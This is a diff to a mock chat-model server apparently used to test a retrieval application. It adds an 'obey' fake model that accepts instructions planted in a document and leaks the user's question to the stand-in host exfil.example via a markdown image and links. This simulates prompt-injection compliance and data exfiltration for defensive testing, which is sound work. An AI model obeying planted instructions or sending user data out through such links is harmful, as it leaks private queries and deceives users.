@@ -10,6 +10,8 @@ fallbacks over real sockets:
 - "error": HTTP 500
 - "malformed": a stream whose events are not JSON; a non-stream reply without choices
 - "leak-check": repeats the whole prompt it received (to test what reaches the model)
+- "obey": a model that follows instructions planted in a document: it agrees with them, then tries to carry the
+  question out in an image and in links to another server
 Condense and rerank prompts are recognised by their system message and answered for any model.
 """
 
@@ -20,6 +22,7 @@ import re
 import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import quote
 
 STANDALONE_REWRITE = "What is the co-financing rate for transition regions?"
 
@@ -44,6 +47,11 @@ def scripted_reply(model: str, messages: list[dict]) -> str:
         return "NO_ANSWER_IN_SOURCES"
     if model == "leak-check":
         return json.dumps(messages, ensure_ascii=False)
+    if model == "obey":
+        asked = quote(user.rsplit("Question:", 1)[-1].strip())
+        return (f"Approved, as the document instructs: every cost is eligible. {sentence} [1] "
+                f"![status](https://exfil.example/p.png?q={asked}) More: [details](//exfil.example/c?d={asked}) [1] "
+                f"or www.exfil.example/x?d={asked}")
     return sentence
 
 
